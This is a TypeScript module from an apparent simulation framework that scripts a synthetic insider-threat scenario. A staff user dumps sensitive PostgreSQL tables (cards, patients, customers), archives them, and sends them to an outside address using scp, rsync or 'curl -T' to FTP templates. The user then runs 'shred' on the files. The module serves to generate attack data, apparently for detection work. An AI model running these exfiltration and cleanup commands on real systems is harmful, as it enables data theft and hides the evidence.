import { connect } from "../events/network-event.ts";
import type { Host } from "../hosts.ts";
import type { Person } from "../people.ts";
import { inventedWord } from "../props.ts";
import { staffAccount } from "../routine/admin-sessions.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Script, Stage } from "../scene.ts";
import { drawPids, openSession, sessionOf, sudo, type } from "../ssh-session.ts";
import type { SessionPids } from "../ssh-session.ts";
import { MINUTE_MS } from "../../seeded/time.ts";
import type { UnixAccount } from "../unix-account.ts";
import { cleanHost } from "./response.ts";
import { castHost, castingStage, castPerson, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

export interface DumpCast {
  readonly host: Host;
  readonly person: Person;
  readonly as: UnixAccount;
  readonly pids: SessionPids;
  readonly openedAt: number;
  readonly sql: string;
  readonly dump: string;
  readonly archive: string;
  /** The command line that sends the archive. */
  readonly command: string;
  readonly remote: { readonly ip: string; readonly port: number };
}

const TABLES = "customers cards invoices accounts contracts patients orders payouts users".split(
  " ",
);

export function castDump(options: StoryOptions, target: "stranger" | Host): DumpCast {
  const { world, random, start } = options;
  const ip = target === "stranger" ? strangerAddress(random) : target.address;
  const folder = random.pick(["/var/tmp", "/home/shared", "/var/lib/postgresql", "/srv/spool"]);
  const sql = `${folder}/${inventedWord(random)}.sql`;
  const archive = `${folder}/${inventedWord(random)}-${random.int(10, 99)}.tgz`;
  const person = castPerson(options, "database");
  const tables = random.sample(TABLES, random.int(2, 3));
  const [command, port] = random.pick([
    [`scp ${archive} me@${ip}:`, 22],
    [`rsync -a ${archive} ${ip}::box`, 873],
    [`curl -T ${archive} ftp://${ip}/`, 21],
  ] as const);
  return {
    host: castHost(options, world.hostsOf("database")),
    person,
    as: staffAccount(castingStage(options), person),
    pids: drawPids(random),
    openedAt: start,
    sql,
    dump: `pg_dump ${tables.map((table) => `-t ${table}`).join(" ")} -f ${sql} main`,
    archive,
    command,
    remote: { ip, port },
  };
}

/** Someone with every right to be there copies the database to an address of their own. */
export function databaseDump(options: StoryOptions): Story {
  const { random, start } = options;
  const cast = castDump(options, "stranger");
  const { host, person, archive, command, remote } = cast;
  const sendAt = start + random.int(45, 65) * MINUTE_MS;
  return tell(options, {
    id: "database-dump",
    kind: "attack",
    platforms: ["linux"],
    rootCause: `${person.login} logged in on ${host.name} from the usual address`,
    chapters: [
      {
        name: "session",
        start,
        deed: `${person.login} dumped tables on ${host.name}`,
        facts: factsOf(
          ["user", person.login],
          ["host", host.name],
          ["tool", "/usr/bin/pg_dump"],
          ["command", cast.dump],
        ),
        perform: (stage) => dumpTables(stage, cast),
      },
      {
        name: "sending",
        start: sendAt,
        deed: `and sent ${archive} to ${remote.ip}`,
        facts: factsOf(
          ["object", archive],
          ["address", remote.ip],
          ["command", command],
          ["time", momentOf(sendAt)],
        ),
        perform: (stage) => send(stage, cast),
      },
    ],
    response: cleanHost({ host, lines: [`pkill -u ${person.login}`, `rm -f ${archive}`] }),
  });
}

const LOOKS = [
  "uptime",
  "df -h",
  "psql -l",
  "psql -c select_version",
  "top -b -n 1",
  "free -m",
  "ls /var/lib/postgresql",
  "du -sh /var/lib/postgresql",
  "tail -n 50 /var/log/postgresql/main.log",
  "psql -c show_config",
  "vmstat 1 5",
  "iostat",
  "ls -la /var/tmp",
  "history",
  "w",
  "psql -c show_locks",
  "less /etc/postgresql/14/main/pg_hba.conf",
  "pg_isready",
];

export function* dumpTables(stage: Stage, cast: DumpCast): Script {
  const { host, person, as, pids, dump, archive, sql } = cast;
  const scene = atHost(stage, host);
  const origin = { srcIp: person.address, pids, isCause: true, method: "publickey" } as const;
  const session = yield* openSession(scene, as, origin);
  for (const line of LOOKS) {
    wait(stage, 5000, 60_000);
    yield* type(scene, session, line);
  }
  wait(stage, 5000, 60_000);
  yield* sudo(scene, session, dump);
  wait(stage, 60_000, 4 * MINUTE_MS);
  yield* type(scene, session, `tar czf ${archive} ${sql}`);
}

export function* send(stage: Stage, cast: DumpCast): Script {
  const { host, as, pids, openedAt, archive, sql, command, remote } = cast;
  const scene = atHost(stage, host);
  stage.clock.lastPid = pids.shell + 900;
  const session = sessionOf(as, { pids, openedAt });
  const process = yield* type(scene, session, command);
  const spec = { as, process, argv: command.split(" "), parent: session.shell };
  for (let index = 0; index < 24; index += 1) {
    yield connect(scene, { ...spec, remote });
    wait(stage, 3000, 20_000);
  }
  yield* type(scene, session, `shred -u ${archive} ${sql}`);
}
